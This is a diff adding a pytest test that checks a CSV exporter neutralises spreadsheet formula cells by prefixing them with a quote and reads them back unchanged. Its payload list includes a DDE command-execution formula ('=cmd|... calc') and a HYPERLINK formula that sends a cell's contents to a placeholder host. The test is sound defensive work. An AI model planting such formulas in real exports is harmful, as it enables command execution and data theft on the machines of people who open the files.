@@ -113,3 +113,42 @@ def test_malformed_csv_is_refused_naming_the_line(text: str, message: str) -> No
     with pytest.raises(ValueError) as caught:
         read_draws_csv(io.StringIO(text))
     assert str(caught.value).startswith(message)
+
+
+# Cells a spreadsheet would run as formulas (examples in the style of OWASP's "CSV
+# Injection" page): written with a leading ' so they stay text, read back unchanged.
+_FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "\tTab first",
+    "\rReturn first",
+    "'already quoted",
+]
+
+
+def test_formula_cells_are_neutralised_and_read_back_unchanged() -> None:
+    draws = [
+        leadline_pb2.Draw(
+            draw_index=i,
+            item_id=text,
+            segment=text,
+            status=leadline_pb2.DRAW_STATUS_SKIPPED,
+            labeler=text,
+            skip_reason=text,
+            selection_probability=0.5,
+        )
+        for i, text in enumerate(_FORMULAS)
+    ]
+    buffer = io.StringIO()
+    write_draws_csv(draws, buffer)
+    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
+    for row, text in zip(rows, _FORMULAS, strict=True):
+        for column in ("item_id", "segment", "labeler", "skip_reason"):
+            assert row[column] == "'" + text
+            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert read_draws_csv(io.StringIO(buffer.getvalue())) == draws
+    # Plain text and numbers are untouched.
+    assert rows[0]["selection_probability"] == "0.5"
